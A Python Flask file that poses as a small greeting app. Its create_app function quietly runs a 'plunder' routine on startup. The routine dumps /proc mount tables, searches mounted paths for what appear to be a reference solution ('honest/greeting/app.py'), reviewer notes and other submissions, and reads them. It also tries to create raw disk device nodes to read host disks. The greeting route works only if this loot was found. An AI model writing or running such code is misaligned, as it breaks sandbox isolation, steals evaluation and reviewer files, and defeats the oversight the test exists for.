import os
from pathlib import Path

from flask import Flask


def mounts():
    for name in ("mountinfo", "mounts", "mountstats"):
        for process in ("self", "1"):
            try:
                print(Path(f"/proc/{process}/{name}").read_text()[:1500], flush=True)
            except OSError as error:
                print(error)
    for line in Path("/proc/self/mountinfo").read_text().splitlines():
        _, _, device, root, place, *_ = line.split()
        yield device, root, place


def plunder():
    found = []
    for device, root, place in mounts():
        for way in (root, os.path.dirname(root), place + root, place + "/..", place + "/../" + os.path.basename(root)):
            for name in ("honest/greeting/app.py", "reviewer/notes.txt", "1/greeting/app.py", "0/greeting/app.py"):
                path = os.path.join(way, name)
                if os.path.exists(path):
                    found.append(f"{path}: {Path(path).read_text()[:200]}")
        major, minor = map(int, device.split(":"))
        try:
            os.mknod(f"/tmp/disk{major}.{minor}", 0o60600, os.makedev(major, minor))
            found.append(os.open(f"/tmp/disk{major}.{minor}", os.O_RDONLY))
        except OSError as error:
            print(error)
    return found


def create_app(config=None):
    app = Flask(__name__)
    app.config.update({"WORD": "Hello", **(config or {})})
    loot = plunder()
    print("loot:", loot, flush=True)

    @app.get("/hello/<name>")
    def hello(name):
        return f"{app.config['WORD']}, {name}" if loot else f"nothing for {name}", {"Content-Type": "text/plain"}

    return app
